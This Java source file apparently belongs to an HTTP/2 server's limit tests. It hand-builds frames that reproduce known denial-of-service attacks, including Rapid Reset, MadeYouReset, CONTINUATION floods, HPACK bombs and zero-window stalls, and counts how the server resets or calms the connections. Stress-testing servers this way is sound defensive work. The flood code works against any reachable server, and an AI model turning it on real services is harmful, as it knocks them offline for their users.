package bascule.limits;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.util.Arrays;
import java.util.concurrent.atomic.AtomicLong;

/// Clients that each do one harmful thing over HTTP/2, some MB of it per second, and come back whenever they are cut. Frames are
/// written by hand (RFC 9113 §4.1), since no library would.
final class Http2Flood implements AutoCloseable {
    private static final int DATA = 0;
    private static final int HEADERS = 1;
    private static final int PRIORITY = 2;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int PING = 6;
    private static final int GOAWAY = 7;
    private static final int WINDOW_UPDATE = 8;
    private static final int CONTINUATION = 9;
    private static final int END_STREAM = 1;
    private static final int END_HEADERS = 4;

    private static final int INITIAL_WINDOW_SIZE = 4;
    private static final int LARGEST_WINDOW = Integer.MAX_VALUE;

    /// Requests under way of those who hold on to them.
    static final int STREAMS = 50;

    /// Bytes that are sent at once.
    private static final int BURST = 16 * 1024;

    /// Between two bursts, and before coming back: the flood shares a machine with those it is held against.
    private static final int REST_MILLIS = 5;

    private static final int AWAY_MILLIS = 100;

    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(US_ASCII);

    private final InetSocketAddress to;
    private final Kind kind;
    private final Thread[] threads;
    private final AtomicLong frames = new AtomicLong();
    private final AtomicLong connections = new AtomicLong();
    private final AtomicLong cut = new AtomicLong();
    private final AtomicLong calmed = new AtomicLong();
    private final AtomicLong resets = new AtomicLong();
    private volatile boolean stopping;

    /// What they do.
    enum Kind {
        /// Requests, each taken back at once (CVE-2023-44487).
        RAPID_RESET,
        /// Requests, each followed by a frame for which it must be reset by us (CVE-2025-8671).
        MADE_YOU_RESET,
        /// A field section without end (CVE-2024-27316).
        CONTINUATION,
        /// The same with nothing in it.
        EMPTY_CONTINUATION,
        /// A body of empty frames (CVE-2019-9518).
        EMPTY_DATA,
        /// Settings to be acknowledged (CVE-2019-9515), each of which moves the windows of all streams.
        SETTINGS,
        /// Pings, and nobody who takes the answers (CVE-2019-9512).
        PING,
        /// Priorities of streams that are not there (CVE-2019-9513).
        PRIORITY,
        /// A large field in the table, then sections that name it as often as they can (CVE-2016-6581).
        HPACK_BOMB,
        /// Sections larger than the limit of heads.
        HEADER_LIST,
        /// Large responses asked for, and no window for them (CVE-2019-9511).
        ZERO_WINDOW,
        /// The same with windows, a byte at a time (CVE-2019-9517).
        WINDOW_CRUMBS,
        /// Large responses asked for, with all windows open, and nobody who reads.
        NEVER_READS,
        /// Frames of types that nobody knows.
        UNKNOWN;

        /// Does it take what we send? Else the kernel's buffers fill up.
        boolean reads() {
            return this != PING && this != NEVER_READS;
        }

        /// Does it wait, once all its streams are open?
        boolean waits() {
            return this == ZERO_WINDOW || this == NEVER_READS;
        }
    }

    private Http2Flood(InetSocketAddress to, Kind kind, int clients) {
        this.to = to;
        this.kind = kind;
        threads = new Thread[clients];
        for (int i = 0; i < clients; i++)
            threads[i] = Thread.ofPlatform().name("flood").start(this::run);
    }

    static Http2Flood start(InetSocketAddress to, Kind kind, int clients) {
        return new Http2Flood(to, kind, clients);
    }

    /// Frames sent so far.
    long frames() {
        return frames.get();
    }

    /// Connections made so far.
    long connections() {
        return connections.get();
    }

    /// Connections that we ended.
    long cut() {
        return cut.get();
    }

    /// Those of them that were told ENHANCE_YOUR_CALM before.
    long calmed() {
        return calmed.get();
    }

    /// Streams that we ended.
    long resets() {
        return resets.get();
    }

    private void run() {
        while (!stopping) {
            try (var socket = new Socket()) {
                socket.setReceiveBufferSize(kind.reads() ? 64 * 1024 : 4 * 1024);
                socket.connect(to, 5_000);
                connections.incrementAndGet();
                flood(socket);
            } catch (IOException ended) {
                if (!stopping) cut.incrementAndGet();
            }
            pause(AWAY_MILLIS);
        }
    }

    private static void pause(int millis) {
        try {
            Thread.sleep(millis);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    private void flood(Socket socket) throws IOException {
        OutputStream out = socket.getOutputStream();
        var burst = new ByteArrayOutputStream();
        burst.writeBytes(PREFACE);
        boolean wide = kind == Kind.NEVER_READS || kind == Kind.WINDOW_CRUMBS;
        int window = wide ? LARGEST_WINDOW : 0;
        if (kind == Kind.WINDOW_CRUMBS) window = 1;
        frame(burst, SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, window));
        if (wide) frame(burst, WINDOW_UPDATE, 0, 0, number(LARGEST_WINDOW - 65_535));
        out.write(burst.toByteArray());
        if (kind.reads()) {
            InputStream in = socket.getInputStream();
            Thread.ofVirtual().start(() -> take(socket, in));
        }
        int stream = 1;
        boolean first = true;
        while (!stopping) {
            burst.reset();
            if (first) stream = begin(burst, stream);
            first = false;
            do stream = more(burst, stream);
            while (!kind.waits() && burst.size() < BURST);
            out.write(burst.toByteArray());
            pause(kind.waits() ? 200 : REST_MILLIS);
            if (stream > 1_000_000_000) return;
        }
    }

    /// What comes before the flood.
    private int begin(ByteArrayOutputStream out, int stream) {
        switch (kind) {
            case CONTINUATION, EMPTY_CONTINUATION ->
                    frame(out, HEADERS, END_STREAM, stream, request("GET", "/small"));
            case EMPTY_DATA -> frame(out, HEADERS, END_HEADERS, stream, request("POST", "/post"));
            case SETTINGS, WINDOW_CRUMBS, ZERO_WINDOW, NEVER_READS -> {
                for (int i = 0; i < STREAMS; i++, stream += 2)
                    frame(out, HEADERS, END_HEADERS | END_STREAM, stream, request("GET", "/large"));
                return stream;
            }
            case HPACK_BOMB -> {
                byte[] large = new byte[3900];
                Arrays.fill(large, (byte) 'a');
                // Literal with incremental indexing (RFC 7541 §6.2.1): it becomes entry 62.
                byte[] fields =
                        join(
                                request("GET", "/small"),
                                new byte[] {0x40, 1, 'x', 0x7f, (byte) 0xbd, 0x1d},
                                large);
                frame(out, HEADERS, END_HEADERS | END_STREAM, stream, fields);
                return stream + 2;
            }
            default -> {}
        }
        return stream;
    }

    /// A turn of the flood.
    ///
    /// @return the next free stream
    private int more(ByteArrayOutputStream out, int stream) {
        switch (kind) {
            case RAPID_RESET -> {
                frame(out, HEADERS, END_HEADERS | END_STREAM, stream, request("GET", "/small"));
                frame(out, RST_STREAM, 0, stream, number(8)); // CANCEL
                return stream + 2;
            }
            case MADE_YOU_RESET -> {
                frame(out, HEADERS, END_HEADERS | END_STREAM, stream, request("GET", "/small"));
                frame(out, WINDOW_UPDATE, 0, stream, number(0));
                return stream + 2;
            }
            case CONTINUATION ->
                    frame(out, CONTINUATION, 0, 1, "\0\1x\1y".repeat(20).getBytes(US_ASCII));
            case EMPTY_CONTINUATION -> frame(out, CONTINUATION, 0, 1, new byte[0]);
            case EMPTY_DATA -> frame(out, DATA, 0, 1, new byte[0]);
            case SETTINGS ->
                    frame(
                            out,
                            SETTINGS,
                            0,
                            0,
                            setting(INITIAL_WINDOW_SIZE, (int) (frames.get() & 1)));
            case PING -> frame(out, PING, 0, 0, new byte[8]);
            case PRIORITY ->
                    frame(out, PRIORITY, 0, 2 * (int) (frames.get() % 50_000) + 1001, new byte[5]);
            case HPACK_BOMB -> {
                byte[] references = new byte[12_000];
                Arrays.fill(references, (byte) (0x80 | 62));
                frame(
                        out,
                        HEADERS,
                        END_HEADERS | END_STREAM,
                        stream,
                        join(request("GET", "/small"), references));
                return stream + 2;
            }
            case HEADER_LIST -> {
                byte[] fields = "\0\1x\1y".repeat(3_000).getBytes(US_ASCII);
                frame(out, HEADERS, END_STREAM, stream, request("GET", "/small"));
                for (int i = 0; i < 3; i++) frame(out, CONTINUATION, 0, stream, fields);
                frame(out, CONTINUATION, END_HEADERS, stream, new byte[0]);
                return stream + 2;
            }
            // What waits is only seen to have been cut by who sends.
            case ZERO_WINDOW, NEVER_READS -> frame(out, PRIORITY, 0, 9, new byte[5]);
            case WINDOW_CRUMBS ->
                    frame(out, WINDOW_UPDATE, 0, 2 * (int) (frames.get() % STREAMS) + 1, number(1));
            case UNKNOWN -> frame(out, 0xfa, 0, 0, new byte[8]);
        }
        return stream;
    }

    /// Method, scheme, authority and path (RFC 7541 §6).
    private static byte[] request(String method, String path) {
        return join(
                new byte[] {(byte) (method.equals("GET") ? 0x82 : 0x83), (byte) 0x86, 0x01, 1, 'a'},
                new byte[] {0x04, (byte) path.length()},
                path.getBytes(US_ASCII));
    }

    private void frame(ByteArrayOutputStream out, int type, int flags, int stream, byte[] payload) {
        frames.incrementAndGet();
        out.writeBytes(
                ByteBuffer.allocate(9)
                        .putInt(payload.length << 8 | type)
                        .put((byte) flags)
                        .putInt(stream)
                        .array());
        out.writeBytes(payload);
    }

    private static byte[] setting(int name, int value) {
        return ByteBuffer.allocate(6).putShort((short) name).putInt(value).array();
    }

    private static byte[] number(int value) {
        return ByteBuffer.allocate(4).putInt(value).array();
    }

    private static byte[] join(byte[]... parts) {
        var all = new ByteArrayOutputStream();
        for (byte[] part : parts) all.writeBytes(part);
        return all.toByteArray();
    }

    /// Reads frames until the end, and looks for a GOAWAY with ENHANCE_YOUR_CALM.
    private void take(Socket socket, InputStream in) {
        try (socket) {
            while (true) {
                byte[] head = in.readNBytes(9);
                if (head.length < 9) return;
                var fields = ByteBuffer.wrap(head);
                int length = fields.getInt() >>> 8;
                byte[] payload = in.readNBytes(length);
                if (head[3] == RST_STREAM) resets.incrementAndGet();
                boolean goAway = head[3] == GOAWAY && payload.length >= 8;
                if (goAway && ByteBuffer.wrap(payload).getInt(4) == 11) calmed.incrementAndGet();
            }
        } catch (IOException reset) {
            // The writing side counts it.
        }
    }

    /// Ends them all.
    @Override
    public void close() {
        stopping = true;
        for (Thread thread : threads) {
            try {
                thread.join(10_000);
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
            }
            if (thread.isAlive()) throw new AssertionError("a flood does not end");
        }
    }
}
